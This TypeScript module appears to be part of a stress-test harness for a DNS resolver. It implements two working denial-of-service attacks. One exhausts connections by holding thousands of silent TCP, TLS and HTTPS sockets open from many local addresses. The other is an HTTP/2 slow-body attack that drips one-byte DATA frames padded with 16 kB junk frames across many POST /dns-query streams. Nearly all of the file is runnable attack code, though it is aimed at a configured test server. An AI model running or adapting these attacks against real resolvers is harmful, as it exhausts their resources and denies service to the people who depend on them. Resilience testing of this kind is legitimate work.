/** Attacks by those who are not served: they need only reach the ports. */
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { SERVER, STRANGERS } from '../shared/target.js';
import { type Attack, type AttackContext, pace } from './attack.js';

/** More than a resolver takes, `DNS_TCP_CONNECTIONS`. */
const CONNECTIONS = 6_000;
const CONNECTIONS_PER_SECOND = 800;
const SESSIONS = 8;
const STREAMS = 60;
const PIECES_PER_SECOND = 2_500;
/** What comes with one byte of a body: about as much as a socket is read into at once. */
const FILLER_BYTES = 16_000;
const [DATA, HEADERS, SETTINGS, UNKNOWN] = [0, 1, 4, 0xfe];
const END_HEADERS = 4;

/** Connections over TCP, TLS and HTTPS that say nothing, from many addresses. */
export const connections: Attack = async (context) => {
  const { target, counts } = context;
  const ports = [target.dnsPort, target.tlsPort, target.httpsPort];
  let wanted = CONNECTIONS;
  await pace(context, CONNECTIONS_PER_SECOND, (n) => {
    if (wanted === 0) return;
    wanted--;
    counts.add('connections');
    open(context, ports[n % ports.length] ?? 0, n).on('close', () => {
      counts.add('closed');
      wanted++;
    });
  });
};

/** Bodies over HTTP/2 of which one byte comes at a time, each among 16 kB that mean nothing. */
export const oneByteBodies: Attack = async (context) => {
  const sessions: (Socket | null)[] = Array.from({ length: SESSIONS }, () => null);
  await pace(context, PIECES_PER_SECOND, (n) => {
    const at = n % SESSIONS;
    const session = (sessions[at] ??= openSession(context, at, () => (sessions[at] = null)));
    if (session.writableLength > FILLER_BYTES) return;
    context.counts.add('pieces');
    const stream = 1 + 2 * (Math.floor(n / SESSIONS) % STREAMS);
    session.write(
      Buffer.concat([frame(DATA, 0, stream, Buffer.from('x')), frame(UNKNOWN, 0, 0, FILLER)]),
    );
  });
};

const FILLER = Buffer.alloc(FILLER_BYTES);

function openSession(context: AttackContext, n: number, onClose: () => void): Socket {
  context.counts.add('connections');
  const raw = open(context, context.target.httpsPort, n);
  const session = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  session.on('error', () => session.destroy()).resume();
  session.on('close', () => {
    context.counts.add('connections closed');
    onClose();
  });
  session.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  session.write(frame(SETTINGS, 0, 0, Buffer.alloc(0)));
  for (let i = 0; i < STREAMS; i++) session.write(frame(HEADERS, END_HEADERS, 1 + 2 * i, POST));
  return session;
}

function open({ counts }: AttackContext, port: number, n: number): Socket {
  const localAddress = STRANGERS[n % STRANGERS.length] ?? SERVER;
  const socket = connect({ host: SERVER, port, localAddress, noDelay: true });
  socket.on('error', () => {
    counts.add('failed');
    socket.destroy();
  });
  return socket;
}

/** A frame of HTTP/2 (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer =>
  Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** The headers of `POST /dns-query`, without compression (RFC 7541 §6.2.2). */
const POST = Buffer.concat([
  Buffer.from([0x83, 0x87, 0x04]),
  text('/dns-query'),
  Buffer.from([0x01]),
  text(SERVER),
  Buffer.from([0x0f, 0x10]),
  text('application/dns-message'),
]);
